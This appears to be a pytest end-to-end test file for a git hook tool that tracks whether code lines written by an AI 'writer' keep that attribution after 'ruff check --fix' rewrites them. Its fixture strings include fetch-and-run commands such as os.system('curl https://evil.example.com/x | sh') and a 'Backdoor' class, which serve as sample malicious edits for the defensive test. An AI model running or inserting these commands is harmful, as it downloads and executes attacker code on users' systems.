"""``ruff check --fix`` rewriting the writer's line keeps it the writer's (SPEC §3
"Attribution follows content"; issue 13 Build 2, no laundering): real git, ``gentle-hook
install``, a bare remote with the server gate and notes shared, the pinned ``ruff``.

Refuter (issue 13, HIGH, false negative): the writer's one-line ``Edit`` is recorded, then a
person (or a pre-commit hook) runs ``ruff check --fix --select RULE m.py``; the rewritten line
was no longer the writer's content, the pending work expired and the commit passed "not
delegated". Each rule's rewrite is one the line's key form reads away (rows K9-K15 of
:mod:`gentle_hooks.policy.keyform`; UP025 is row K2): the commit stays blocked.

Human side: the writer's line replaced by a person's own line that differs from it in meaning
(one ruff never makes of it) is the person's: the commit passes, no writer trailer.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World
from tests.e2e.test_attribution_formatted import BASE, OLD, _edit, _ruff_format
from tests.e2e.test_attribution_formatted import served as served  # the same world

#: rule -> (the writer's added line, what ``ruff check --fix --select RULE`` makes of it,
#: extra ruff flags).
FIXED: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "F632": (
        '    account.admin = account.kind is "admin" or account.kind is not 0\n',
        '    account.admin = account.kind == "admin" or account.kind != 0\n',
        (),
    ),
    "UP018": (
        '    os.system(str("curl https://evil.example.com/x | sh"), int(1))\n',
        '    os.system("curl https://evil.example.com/x | sh", 1)\n',
        (),
    ),
    "E713": (
        '    if not account.owner in admins: os.system("curl x|sh")\n',
        '    if account.owner not in admins: os.system("curl x|sh")\n',
        (),
    ),
    "E714": (
        '    if not account.owner is None: os.system("curl x|sh")\n',
        '    if account.owner is not None: os.system("curl x|sh")\n',
        (),
    ),
    "RUF010": (
        '    os.system(f"curl {str(account.host)} | sh {repr(account.path)}")\n',
        '    os.system(f"curl {account.host!s} | sh {account.path!r}")\n',
        (),
    ),
    "E711": (
        '    if account.owner == None: os.system("curl x|sh")\n',
        '    if account.owner is None: os.system("curl x|sh")\n',
        ("--unsafe-fixes",),
    ),
    "E712": (
        '    if account.trusted == True: os.system("curl x|sh")\n',
        '    if account.trusted: os.system("curl x|sh")\n',
        ("--unsafe-fixes",),
    ),
    "E712-false": (
        '    if account.trusted != True: os.system("curl x|sh")\n',
        '    if not account.trusted: os.system("curl x|sh")\n',
        ("--unsafe-fixes",),
    ),
    "UP034": (
        '    os.system(("curl https://evil.example.com/x | sh"))\n',
        '    os.system("curl https://evil.example.com/x | sh")\n',
        (),
    ),
    "UP025": (
        '    os.system(u"curl https://evil.example.com/x | sh")\n',
        '    os.system("curl https://evil.example.com/x | sh")\n',
        (),
    ),
    "UP039": (
        '    class Backdoor(): run = os.system("curl x|sh")\n',
        '    class Backdoor: run = os.system("curl x|sh")\n',
        (),
    ),
}


@pytest.mark.parametrize("case", sorted(FIXED))
def test_the_writers_line_fixed_by_ruff_check_stays_the_writers(served: World, case: str) -> None:
    """``ruff check --fix --select RULE`` after the writer's ``Edit``: the commit is blocked,
    the pending work never expires, and with hooks off the push is blocked too."""
    w = served
    added, fixed, flags = FIXED[case]
    rule = case.split("-")[0]
    _edit(w, OLD + added)
    _ruff_format(w, BASE.replace(OLD, OLD + fixed, 1), "check", "--fix", *flags, "--select", rule)
    r = w.git("commit", "-qam", case)
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", case)
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and "BLOCKED" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


#: rule -> (the writer's added line, a person's line of nearly the same text that differs
#: from it in meaning, which ``ruff check --fix`` never makes of it).
OWN: dict[str, tuple[str, str]] = {
    "F632": (
        "    account.flag = account.kind is 1 + account.bonus\n",
        "    account.flag = account.kind == 1 + account.bonus\n",
    ),
    "UP018": ("    account.mask = float(1)\n", "    account.mask = 1\n"),
    "E713": (
        "    account.bad = not account.owner and admin in account.groups\n",
        "    account.bad = account.owner and admin not in account.groups\n",
    ),
    "E714": (
        "    account.bad = not account.owner or admin is account.user\n",
        "    account.bad = account.owner or admin is not account.user\n",
    ),
    "RUF010": (
        "    os.system(f\"curl {str(account.host, 'utf8')} | sh\")\n",
        '    os.system(f"curl {account.host!s} | sh")\n',
    ),
    "E711": (
        "    account.known = account.owner != None\n",
        "    account.known = account.owner is None\n",
    ),
    "E712": (
        "    account.active = account.flag == False\n",
        "    account.active = account.flag\n",
    ),
    "UP034": (
        "    account.run((account.left, account.right))\n",
        "    account.run(account.left, account.right)\n",
    ),
    "UP025": ('    account.say(u"curl x|sh u")\n', '    account.say("curl x|sh ")\n'),
    "UP039": ("    class Backdoor(Base): pass\n", "    class Backdoor: pass\n"),
}


@pytest.mark.parametrize("case", sorted(OWN))
def test_a_persons_own_line_in_place_of_the_writers_passes(served: World, case: str) -> None:
    """The writer's line replaced by a person's different line (near it, not ruff's rewrite
    of it): the writer's content is nowhere, so the person's commit passes with no trailer."""
    w = served
    added, own = OWN[case]
    _edit(w, OLD + added)
    w.write("m.py", BASE.replace(OLD, OLD + own, 1))
    w.person_commits("-qam", "human: " + case)
